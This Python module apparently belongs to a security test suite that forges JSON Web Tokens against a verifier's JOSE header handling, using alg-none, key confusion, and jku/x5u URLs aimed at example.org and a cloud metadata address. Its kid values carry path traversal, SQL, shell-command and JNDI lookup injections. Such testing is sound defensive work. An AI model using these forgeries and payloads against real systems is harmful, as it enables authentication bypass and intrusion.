"""Attacks on the JOSE header: which key, which algorithm, what else a header may order."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import permutations
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec
from forger import Forger, compact, jwk, thumbprint

from app.claims import b64
from attacks.family import tokens

Made = Iterator[tuple[str, str]]
NONES = ("none", "None", "NONE", "nOnE", "noNe", "none ", " none", "none\u0000", "")
OURS = "a key of the forger's own, named in the header"


@tokens("alg none without a signature")
def none_unsigned(forger: Forger) -> Made:
    for alg in NONES:
        yield repr(alg), f"{b64(compact(forger.head(alg=alg)))}.{forger.payload}."
    yield "our own header", f"{forger.header}.{forger.payload}."


@tokens("alg none over the good signature")
def none_with_signature(forger: Forger) -> Made:
    for alg in NONES:
        yield repr(alg), forger.signed_with(forger.signature, b64(compact(forger.head(alg=alg))))


@tokens("alg none, well signed")
def none_signed(forger: Forger) -> Made:
    for alg in NONES:
        yield repr(alg), forger.headed(forger.head(alg=alg))


@tokens("HMAC with the public key as the secret")
def public_key_as_secret(forger: Forger) -> Made:
    for bits in ("256", "384", "512"):
        for form, secret in forger.public_forms.items():
            yield f"HS{bits}, {form}", forger.hashed_with(secret, f"sha{bits}", forger.head(alg=f"HS{bits}"))


@tokens("HMAC with the public key, under our own header")
def public_key_as_secret_unsaid(forger: Forger) -> Made:
    for form, secret in forger.public_forms.items():
        yield form, forger.hashed_with(secret, "sha512")


@tokens("HMAC with a secret that can be guessed")
def guessable_secret(forger: Forger) -> Made:
    for secret in ("", "secret", "simpul", forger.kid, "null", "\x00" * 32):
        yield repr(secret), forger.hashed_with(secret.encode(), "sha256", forger.head(alg="HS256"))


@tokens("another algorithm named, signed with our key")
def other_algorithms(forger: Forger) -> Made:
    named = "HS256 HS384 HS512 RS256 RS384 RS512 PS256 PS384 PS512 ES384 ES512 ES256K EdDSA Ed25519 Ed448"
    for alg in named.split():
        yield alg, forger.headed(forger.head(alg=alg))


@tokens("another algorithm, truly used")
def other_algorithms_used(forger: Forger) -> Made:
    for alg in ("RS256", "PS256"):
        yield alg, forger.by_rsa(alg)
    yield "EdDSA", forger.by_edwards(b64(compact(forger.head(alg="EdDSA"))))
    for alg, curve, digest in (
        ("ES384", ec.SECP384R1(), "sha384"),
        ("ES512", ec.SECP521R1(), "sha512"),
        ("ES256K", ec.SECP256K1(), "sha256"),
    ):
        yield alg, forger.by(ec.generate_private_key(curve), forger.head(alg=alg), digest)


@tokens("alg that is no name of an algorithm")
def malformed_alg(forger: Forger) -> Made:
    for alg in (["ES256"], ["none", "ES256"], {"ES256": 1}, None, 0, True, "es256", "ES256 ", "ES\u200b256", "ES256\n"):
        yield repr(alg), forger.headed(forger.head(alg=alg))
    yield "missing", forger.headed({"kid": forger.kid, "typ": "at+jwt"})


@tokens("no kid")
def no_kid(forger: Forger) -> Made:
    yield "missing", forger.headed({"alg": "ES256", "typ": "at+jwt"})
    for kid in (None, "", " "):
        yield repr(kid), forger.headed(forger.head(kid=kid))


@tokens("kid unknown")
def unknown_kid(forger: Forger) -> Made:
    for kid in ("other", "0", "1", "default", forger.kid[::-1], b64(bytes(12)), thumbprint(jwk(forger.public))):
        yield kid, forger.headed(forger.head(kid=kid))


@tokens("kid nearly ours")
def near_kid(forger: Forger) -> Made:
    kid = forger.kid
    for near in (kid.swapcase(), f"{kid} ", f" {kid}", f"{kid}\u0000", f"{kid}=", kid[:-1], f"{kid}A", f"{kid}\n"):
        yield repr(near), forger.headed(forger.head(kid=near))


@tokens("kid that is a path")
def kid_path(forger: Forger) -> Made:
    for kid in (
        "../../../../etc/passwd", "/dev/null", "file:///dev/null", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd",
        "/proc/self/environ", "keys/1.pem", "https://example.org/key.pem",
    ):  # fmt: skip
        yield kid, forger.headed(forger.head(kid=kid))


@tokens("kid that is SQL")
def kid_sql(forger: Forger) -> Made:
    for kid in ("' or '1'='1", "x' union select 'c2VjcmV0", "'; drop table signing_key; --", "$$||pg_sleep(9)||$$"):
        yield kid, forger.headed(forger.head(kid=kid))


@tokens("kid that is a command or a template")
def kid_command(forger: Forger) -> Made:
    for kid in ("|whoami", "$(id)", "`id`", "${jndi:ldap://example.org/a}", "{{7*7}}", "%s%s%n", "<script>"):
        yield kid, forger.headed(forger.head(kid=kid))


@tokens("kid that is no text")
def kid_no_text(forger: Forger) -> Made:
    kid: Any
    for kid in ({forger.kid: 1}, [forger.kid], 0, 1.5, True, {"$ne": None}, [[]]):
        yield repr(kid), forger.headed(forger.head(kid=kid))


@tokens("kid very long")
def kid_long(forger: Forger) -> Made:
    for size in (200, 700, 5_000, 20_000):
        yield str(size), forger.headed(forger.head(kid="k" * size))
    yield "ours, repeated", forger.headed(forger.head(kid=forger.kid * 20))


@tokens("key by address")
def key_by_address(forger: Forger) -> Made:
    own = ec.generate_private_key(ec.SECP256R1())
    for member in ("jku", "x5u"):
        for address in (
            "https://example.org/jwks.json", "http://127.0.0.1:1/", "file:///dev/null", "//example.org",
            "http://169.254.169.254/", "https://simpul@example.org/oauth2/jwks",
        ):  # fmt: skip
            yield f"{member} {address}", forger.by(own, forger.head(**{member: address}))
        yield f"{member}, signed with our key", forger.headed(forger.head(**{member: "https://example.org/"}))


@tokens("key in the header")
def key_in_header(forger: Forger) -> Made:
    own = ec.generate_private_key(ec.SECP256R1())
    public = jwk(own.public_key())
    yield OURS, forger.by(own, forger.head(jwk=public))
    yield f"{OURS}, with our kid inside", forger.by(own, forger.head(jwk={**public, "kid": forger.kid}))
    yield f"{OURS}, kid its thumbprint", forger.by(own, forger.head(jwk=public, kid=thumbprint(public)))
    yield f"{OURS}, no kid", forger.by(own, {"alg": "ES256", "jwk": public, "typ": "at+jwt"})
    empty = {"kty": "oct", "k": ""}
    yield "an empty secret", forger.hashed_with(b"", "sha256", forger.head(alg="HS256", jwk=empty))
    yield "our own public key", forger.headed(forger.head(jwk=jwk(forger.public)))
    yield "a point off the curve", forger.headed(forger.head(jwk={**public, "y": public["x"]}))


@tokens("certificate in the header")
def certificate_in_header(forger: Forger) -> Made:
    own = ec.generate_private_key(ec.SECP256R1())
    for name, chain in (("empty", []), ("junk", ["AAAA"]), ("text", "AAAA"), ("no certificate", ["MAA="])):
        yield f"x5c {name}", forger.by(own, forger.head(x5c=chain))
    for member in ("x5t", "x5t#S256"):
        yield member, forger.by(own, forger.head(**{member: b64(bytes(32))}))


@tokens("crit")
def crit(forger: Forger) -> Made:
    for value in (["exp"], ["b64"], ["x"], [], "exp", None, ["alg"], ["crit"]):
        yield repr(value), forger.headed(forger.head(crit=value))


@tokens("b64 false")
def unencoded(forger: Forger) -> Made:
    for more in ({"b64": False}, {"b64": False, "crit": ["b64"]}, {"b64": True}, {"b64": "false"}):
        yield repr(more), forger.headed(forger.head(**more))
    raw = compact(forger.claims).decode()
    yield "payload as it is", forger.sealed(b64(compact(forger.head(b64=False, crit=["b64"]))), raw)
    yield "payload as it is, our header", forger.sealed(forger.header, raw)


@tokens("zip")
def zipped(forger: Forger) -> Made:
    for method in ("DEF", "GZIP", "", None):
        yield repr(method), forger.headed(forger.head(zip=method))


@tokens("a token in a token")
def nested(forger: Forger) -> Made:
    inner = b64(forger.good.encode())
    yield "cty JWT", forger.sealed(b64(compact(forger.head(cty="JWT"))), inner)
    yield "cty at+jwt", forger.sealed(b64(compact(forger.head(cty="at+jwt"))), inner)
    yield "unsaid", forger.sealed(forger.header, inner)
    yield "as a string", forger.saying(compact(forger.good))
    yield "around ours", f"{forger.header}.{b64(compact({'token': forger.good}))}.{forger.signature}"


@tokens("JWE")
def encrypted(forger: Forger) -> Made:
    for alg, enc in (("dir", "A256GCM"), ("RSA-OAEP", "A256GCM"), ("PBES2-HS256+A128KW", "A128CBC-HS256"),
                     ("ECDH-ES", "A128GCM")):  # fmt: skip
        header = b64(compact({"alg": alg, "enc": enc, "p2c": 2**31 - 1, "p2s": "AA", "epk": jwk(forger.public)}))
        yield f"{alg} in five segments", f"{header}.{'A' * 43}.{'A' * 16}.{forger.payload}.{'A' * 22}"
        yield f"{alg} in three segments", forger.sealed(header, forger.payload)
    yield "our header in five segments", f"{forger.header}..{'A' * 16}.{forger.payload}.{forger.signature}"


@tokens("another typ")
def other_typ(forger: Forger) -> Made:
    for typ in ("JWT", "at+JWT", "AT+JWT", "application/at+jwt", "jwt", "none", "", None, ["at+jwt"], "at+jwt ",
                "id+jwt", "dpop+jwt", "secevent+jwt", "JOSE"):  # fmt: skip
        yield repr(typ), forger.headed(forger.head(typ=typ))
    yield "missing", forger.headed({"alg": "ES256", "kid": forger.kid})


@tokens("a member of the header twice")
def duplicate_members(forger: Forger) -> Made:
    text = compact(forger.head()).decode()
    for more in ('"alg":"none"', '"alg":"ES256"', '"kid":"other"', f'"kid":"{forger.kid}"', '"typ":"JWT"'):
        yield f"{more} first", forger.headed("{" + more + "," + text[1:])
        yield f"{more} last", forger.headed(text[:-1] + "," + more + "}")


@tokens("white space in the header")
def header_space(forger: Forger) -> Made:
    text = compact(forger.head()).decode()
    yield "usual", forger.headed(json.dumps(forger.head()))
    for space in (" ", "\n", "\t", "\r\n"):
        yield f"{space!r} before", forger.headed(space + text)
        yield f"{space!r} after", forger.headed(text + space)
        yield f"{space!r} inside", forger.headed(text.replace(",", "," + space))


@tokens("the members of the header in another order")
def header_order(forger: Forger) -> Made:
    for names in [*permutations(("alg", "kid", "typ"))][1:]:
        yield ", ".join(names), forger.headed({name: forger.head()[name] for name in names})


@tokens("a member too many in the header")
def extra_member(forger: Forger) -> Made:
    for name, value in (("x", 1), ("iss", forger.issuer), ("exp", 0), ("nonce", "a"), ("url", "/"), ("__proto__", {}),
                        ("", ""), ("enc", "A128GCM"), ("p2c", 2**62), ("epk", {}), ("apu", "A"), ("iv",
                        "A")):  # fmt: skip
        yield repr(name), forger.headed(forger.head(**{name: value}))


@tokens("the same header, written otherwise")
def header_spelling(forger: Forger) -> Made:
    text = compact(forger.head()).decode()
    yield "escaped letter", forger.headed(text.replace("ES256", "\\u0045S256"))
    yield "escaped member", forger.headed(text.replace('"alg"', '"\\u0061lg"'))
    yield "escaped slash", forger.headed(text.replace("at+jwt", "at\\u002bjwt"))
    yield "capital member", forger.headed(text.replace('"alg"', '"Alg"'))
    yield "Cyrillic member", forger.headed(text.replace('"alg"', '"\u0430lg"'))
    yield "single quotes", forger.headed(text.replace('"', "'"))
    yield "trailing comma", forger.headed(text[:-1] + ",}")
    yield "comment", forger.headed(text[:-1] + "/**/}")
    yield "garbage after", forger.headed(text + "{}")
    yield "NUL after", forger.headed(text + "\0")


@tokens("the header in another encoding")
def header_encoding(forger: Forger) -> Made:
    text = compact(forger.head()).decode()
    for codec in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"):
        yield codec, forger.headed(text.encode(codec))
    yield "not UTF-8", forger.headed(text.encode().replace(b"at+jwt", b"at+jw\xff"))


@tokens("a header that is no object")
def header_no_object(forger: Forger) -> Made:
    for text in ("[]", '"ES256"', "null", "true", "1", '["alg","ES256"]', "{}", " " * 30, "[" * 900, '{"a":' * 180):
        yield text[:20], forger.headed(text)
    yield "the claims", f"{forger.payload}.{forger.payload}.{forger.signature}"
    yield "swapped with the claims", forger.sealed(forger.payload, forger.header)
